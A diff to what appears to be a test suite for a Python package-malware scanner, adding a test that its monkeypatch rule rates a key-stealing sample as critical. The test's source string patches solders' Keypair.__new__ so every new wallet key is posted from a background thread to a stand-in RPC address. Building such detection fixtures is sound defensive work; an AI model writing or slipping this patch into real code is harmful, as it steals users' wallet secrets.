@@ -56,6 +56,32 @@ def test_a_replacement_that_reports_every_call_to_a_fixed_address_is_critical() 
     assert [f.severity for f in run(R, retry) if f.rule == "PV-BEH-MONKEYPATCH"] == [Severity.MEDIUM]
 
 
+def test_a_replacement_posting_from_a_thread_to_a_module_constant_address_is_critical() -> None:
+    """semantic-types' shape: ``Keypair.__new__`` swapped for a wrapper that hands the new key to
+    a helper, whose nested function posts it from a thread to an address kept in a constant;
+    the patch is made while a submodule the package imports loads."""
+    source = (
+        "import threading, requests\n"
+        "from solders.keypair import Keypair\n"
+        "_RPC = 'https://rpc.example.invalid'\n"
+        "def _ship(secret):\n"
+        "    def go():\n"
+        "        requests.post(_RPC, json={'params': [secret.hex()]})\n"
+        "    threading.Thread(target=go, daemon=True).start()\n"
+        "_orig_new = Keypair.__new__\n"
+        "def _new(cls, *a, **kw):\n"
+        "    kp = _orig_new(cls, *a, **kw)\n"
+        "    _ship(bytes(kp))\n"
+        "    return kp\n"
+        "Keypair.__new__ = _new\n"
+    )
+    found = run(R, py(source, path="acme/_compat.py", stage=Stage.RUNTIME))
+    assert [(f.rule, f.severity, f.stage) for f in found] == [
+        ("PV-BEH-MONKEYPATCH", Severity.CRITICAL, Stage.IMPORT)
+    ]
+    assert "rpc.example.invalid" in found[0].message
+
+
 def test_special_method_fix_that_sends_nothing_is_medium() -> None:
     """pyhocon replaces pyparsing's ``__getattr__`` with a local fix in a module that also
     fetches included files: the replacement never reaches the network."""
